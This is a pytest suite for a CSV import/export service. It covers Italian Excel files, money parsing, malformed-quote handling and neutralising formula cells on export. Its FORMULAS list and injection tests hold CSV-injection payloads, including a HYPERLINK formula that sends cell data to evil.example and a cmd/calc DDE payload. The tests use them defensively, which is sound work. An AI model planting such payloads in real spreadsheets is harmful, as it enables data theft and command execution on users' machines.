"""CSV files as people save them: Italian Excel (``;``, cp1252, decimal commas, "1.000"),
broken quotes that must not hide the rest, out-of-range numbers, long reports, and
formula cells (OWASP CSV injection) neutralised on export and read back unchanged."""

from __future__ import annotations

from decimal import Decimal

import pytest

from counterapp.db.models import Customer, Product
from counterapp.domain.customers import CustomerInput, PhoneInput
from counterapp.services import audit
from counterapp.services.csv_cells import neutralise, restore
from counterapp.services.csv_io import IMPORT_COLUMNS, MAX_PROBLEMS
from counterapp.services.csv_read import read_table, sniff_delimiter
from counterapp.services.shipping_reports import OnTimeRow, ShippingReportService
from tests.services.test_csv import _rows as _cells
from tests.services.test_csv import _write

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
            "@SUM(1)", "-2+3", "\tx", "\rx", "'=already quoted", "''@twice"]


# -- real Italian files -------------------------------------------------------------------------

ITALIAN_PRODUCTS = (
    "sku;barcode;name;vat_rate;price;stock;cost\r\n"
    "CAF-1;8001234567890;Caffè Perù tostato;22;1.234,56;1.000;800,5\r\n"
    "ZUC-1;;Zucchero €uro;10;1,5;12;\r\n"
    "LIB-1;;Libro d'arte;4;1.000;2.500;\r\n"
    'VIN-1;;"Vino; rosso";22;"12,90";-3;\r\n'
)


@pytest.mark.parametrize("encoding", ["cp1252", "utf-8-sig", "utf-8", "utf-16"])
def test_italian_excel_file_imports_right(services, staff, tmp_path, encoding):
    path = _write(tmp_path, "listino.csv", ITALIAN_PRODUCTS, encoding)
    report = services.csv.import_products(path, actor=staff["mgr"])
    assert report.problems == [] and report.written and report.created == 4
    got = {p.sku: (p.name, p.price, p.stock, p.cost) for p in Product.select()}
    assert got == {
        "CAF-1": ("Caffè Perù tostato", Decimal("1234.56"), 1000, Decimal("800.50")),
        "ZUC-1": ("Zucchero €uro", Decimal("1.50"), 12, Decimal("0.00")),
        "LIB-1": ("Libro d'arte", Decimal("1000.00"), 2500, Decimal("0.00")),
        "VIN-1": ("Vino; rosso", Decimal("12.90"), -3, Decimal("0.00")),
    }


def test_tab_separated_customers_with_decimal_comma_credit(services, staff, tmp_path):
    text = ("code\tname\tcity\tcredit_limit\n"
            "C1\tRossi, Bianchi & Figli\tMilano\t1.234,56\n"
            "C2\tVerdi\tRoma\t1.000\n"
            "C3\tNeri\tBari\t1,5\n")
    report = services.csv.import_customers(_write(tmp_path, "c.tsv", text), actor=staff["mgr"])
    assert report.problems == [] and report.created == 3
    limits = {c.code: c.credit_limit for c in Customer.select()}
    assert limits == {"C1": Decimal("1234.56"), "C2": Decimal("1000.00"), "C3": Decimal("1.50")}
    assert Customer.get(Customer.code == "C1").name == "Rossi, Bianchi & Figli"


@pytest.mark.parametrize(("header", "delimiter"), [
    ("sku,name,price", ","), ("sku;name;price", ";"), ("sku\tname\tprice", "\t"),
    ('"a;b",c,d', ","), ("sku", ","),
])
def test_delimiter_sniffing(header, delimiter):
    assert sniff_delimiter(header + "\n") == delimiter


# -- the parser's "Done when" table, through every way money comes in --------------------------

@pytest.mark.parametrize(("text", "value"), [
    ("1.234,56", "1234.56"), ("1.000", "1000.00"), ("1,5", "1.50"), ("1,234.56", "1234.56")])
def test_money_columns_and_credit_limit_read_the_same(services, staff, tmp_path, text, value):
    products = f'sku;name;vat_rate;price;cost\nS1;Pane;4;{text};{text}\n'
    report = services.csv.import_products(_write(tmp_path, "p.csv", products), actor=staff["mgr"])
    assert report.problems == []
    product = Product.get(Product.sku == "S1")
    assert product.price == product.cost == Decimal(value)
    customers = f'code,name,credit_limit\nC1,Rossi,"{text}"\n'
    report = services.csv.import_customers(_write(tmp_path, "c.csv", customers),
                                           actor=staff["mgr"])
    assert report.problems == []
    assert Customer.get(Customer.code == "C1").credit_limit == Decimal(value)
    # the customer dialog hands the typed text to the service as it is
    row = services.customers.create(staff["mgr"], CustomerInput(
        name="Dialog", kind="b2c", credit_limit=text, phones=(PhoneInput("02 1234 5678"),)))
    assert Customer.get_by_id(row.id).credit_limit == Decimal(value)


@pytest.mark.parametrize("bad", ["1e3", "NaN", "Infinity", "0,500", "12.34,56"])
def test_money_columns_refuse_exponents_and_junk(services, staff, tmp_path, bad):
    text = f"sku;name;vat_rate;price\nS1;Pane;4;{bad}\n"
    report = services.csv.import_products(_write(tmp_path, "p.csv", text), actor=staff["mgr"])
    assert [(line, column) for line, column, _ in report.problems] == [(2, "price")]
    customers = f"code;name;credit_limit\nC1;Rossi;{bad}\n"
    report = services.csv.import_customers(_write(tmp_path, "c.csv", customers),
                                           actor=staff["mgr"])
    assert [(line, column) for line, column, _ in report.problems] == [(2, "credit_limit")]
    assert Product.select().count() == Customer.select().count() == 0


# -- one bad line never hides the rest ---------------------------------------------------------

def _thousand_and_one(broken_line: str) -> str:
    rows = [f"C{n:04d},Cliente {n},Milano" for n in range(1, 1002)]
    rows[1] = broken_line  # line 3 of the file (the header is line 1)
    return "code,name,city\n" + "\n".join(rows) + "\n"


@pytest.mark.parametrize("broken", ['C0002,"Rossi" SRL,Milano',   # text after a closing quote
                                    'C0002,"Rossi SRL,Milano'])   # a quote never closed
def test_broken_quote_is_one_bad_line(services, staff, tmp_path, broken):
    path = _write(tmp_path, "big.csv", _thousand_and_one(broken))
    report = services.csv.import_customers(path, actor=staff["mgr"])
    assert not report.written and Customer.select().count() == 0
    assert [(line, column) for line, column, _ in report.problems] == [(3, "")]
    assert "malformed CSV" in report.problems[0][2]
    assert (report.rows_total, report.rows_valid) == (1001, 1000)
    report = services.csv.import_customers(path, actor=staff["mgr"], valid_rows_only=True)
    assert report.written and report.created == 1000
    assert [line for line, _, _ in report.problems] == [3]
    assert Customer.select().count() == 1000
    assert Customer.get(Customer.code == "C1001").name == "Cliente 1001"


def test_several_broken_lines_each_reported(tmp_path):
    text = 'code,name\nA1,ok\nA2,"bad" x\nA3,ok\nA4,"open\nA5,ok\n"A6",ok\n'
    parsed = read_table(_write(tmp_path, "x.csv", text), IMPORT_COLUMNS["customers"], ["code"])
    assert [line for line, _, _ in parsed.problems] == [3, 5]
    assert [(line, row["code"]) for line, row in parsed.rows] == [
        (2, "A1"), (4, "A3"), (6, "A5"), (7, "A6")]


def test_quoted_fields_may_still_span_lines(tmp_path):
    text = 'code,name,notes\nA1,ok,"first\nsecond"\nA2,ok,\n'
    parsed = read_table(_write(tmp_path, "x.csv", text), IMPORT_COLUMNS["customers"], ["code"])
    assert parsed.problems == []
    assert [(line, row["notes"]) for line, row in parsed.rows] == [(2, "first\nsecond"), (4, "")]


# -- numbers out of range, long reports ---------------------------------------------------------

def test_out_of_range_numbers_are_row_errors(services, staff, tmp_path):
    text = ("sku;name;vat_rate;price;stock\n"
            "S1;Huge stock;22;1,00;99999999999999999999\n"
            "S2;Huge price;22;99.999.999,99;1\n"
            "S3;Fine;22;2,00;2.147.483.647\n")
    path = _write(tmp_path, "p.csv", text)
    report = services.csv.import_products(path, actor=staff["mgr"], valid_rows_only=True)
    assert [(line, column) for line, column, _ in report.problems] == [(2, "stock"), (3, "price")]
    assert all("too large" in reason for _, _, reason in report.problems)
    assert report.created == 1 and Product.get(Product.sku == "S3").stock == 2_147_483_647


def test_report_says_when_it_cut_its_list(services, staff, tmp_path):
    bad = 2_234
    text = "sku,name,vat_rate,price\n" + "".join(f"S{n},Item,22,x{n}\n" for n in range(bad))
    report = services.csv.import_products(_write(tmp_path, "p.csv", text), actor=staff["mgr"])
    assert len(report.problems) == MAX_PROBLEMS and report.problem_count == bad
    assert report.lines()[-1] == "… and 1,234 more problems"


def test_an_unreadable_encoding_is_reported(services, staff, tmp_path):
    path = tmp_path / "x.csv"
    path.write_bytes(b"code,name\nA1,ok\nA2,\x81\x8d\n")  # undefined in cp1252, invalid UTF-8
    report = services.csv.import_customers(path, actor=staff["mgr"])
    assert report.problems == [(3, "", "the file is neither UTF-8 nor Windows-1252 text; "
                                       "save it as 'CSV UTF-8' and import it again")]


# -- CSV injection -----------------------------------------------------------------------------

@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(1)", "'@SUM(1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("'=x", "''=x"), ("Rossi", "Rossi"), ("'quoted", "'quoted"),
    ("-12.50", "-12.50"), ("+390212345678", "+390212345678"), ("-", "'-"), ("", ""),
    (Decimal("-12.50"), Decimal("-12.50")), (-3, -3),
])
def test_neutralise_and_restore(value, written):
    assert neutralise(value) == written
    if isinstance(value, str):
        assert restore(written) == value


def test_formula_names_round_trip_through_export_and_import(services, staff, tmp_path):
    lines = "".join(f'F{n},"{name.replace(chr(34), chr(34) * 2)}",22,1.00,5\n'
                    for n, name in enumerate(FORMULAS))
    source = _write(tmp_path, "p.csv", "sku,name,vat_rate,price,stock\n" + lines)
    assert services.csv.import_products(source, actor=staff["mgr"]).created == len(FORMULAS)
    # what the import's text cleaning would trim, written as legacy data straight to the table
    for n, name in enumerate(FORMULAS):
        Product.update(name=name).where(Product.sku == f"F{n}").execute()
    out = tmp_path / "export.csv"
    assert services.csv.export("products", out, actor=staff["mgr"]) == len(FORMULAS)
    exported = {row[0]: row[2] for row in _cells(out)[1:]}
    for n, name in enumerate(FORMULAS):
        assert exported[f"F{n}"] == "'" + name  # a spreadsheet shows text, runs nothing
    parsed = read_table(out, IMPORT_COLUMNS["products"], ["sku"])
    assert {row["sku"]: row["name"] for _, row in parsed.rows} == {
        f"F{n}": name for n, name in enumerate(FORMULAS)}
    report = services.csv.import_products(out, actor=staff["mgr"])
    assert report.problems == [] and report.updated == len(FORMULAS)
    names = {p.sku: p.name for p in Product.select()}
    for n, name in enumerate(FORMULAS):
        # the cell comes back exactly; only the import's usual whitespace trim applies
        assert names[f"F{n}"] == " ".join(name.split())


def test_exported_numbers_stay_numbers(services, staff, tmp_path):
    row = services.customers.create(staff["mgr"], CustomerInput(
        name="=cmd", kind="b2c", phones=(PhoneInput("02 1234 5678"),)))
    Customer.update(balance=Decimal("-12.50")).where(Customer.id == row.id).execute()
    out = tmp_path / "c.csv"
    services.csv.export("customers", out, actor=staff["mgr"])
    header, cells = _cells(out)
    record = dict(zip(header, cells, strict=True))
    assert record["name"] == "'=cmd"
    assert record["balance"] == "-12.50" and record["phone"] == "+390212345678"


def test_every_csv_export_neutralises_formulas(services, staff, tmp_path):
    """The phone panel's call export and the on-time statistics go through the same writer."""
    call = services.calls.start_call(staff["junior"], "0212345678", direction="inbound")
    services.calls.end_call(staff["junior"], call.id, outcome="no_answer",
                            notes='=HYPERLINK("http://x","y")')
    out = tmp_path / "calls.csv"
    assert services.call_history.export_csv(out, actor=staff["mgr"]) == 1
    header, row = _cells(out)
    record = dict(zip(header, row, strict=True))
    assert record["notes"] == "'=HYPERLINK(\"http://x\",\"y\")"
    assert record["number"] == "+390212345678"
    text = ShippingReportService.on_time_csv([OnTimeRow("x", "@SUM(1)", 2, 1)], "carrier")
    assert text.splitlines()[1] == "'@SUM(1),2,1,1,50.0"


def test_audit_export_neutralises_formulas(services, staff, tmp_path):
    with services.ctx.db.atomic():
        audit.record(staff["mgr"], "note", entity="customer", reason="@SUM(1)+cmd")
    out = tmp_path / "audit.csv"
    services.audit.export_csv(staff["mgr"], out, action="note")
    header, row = _cells(out)[:2]
    assert dict(zip(header, row, strict=True))["reason"] == "'@SUM(1)+cmd"
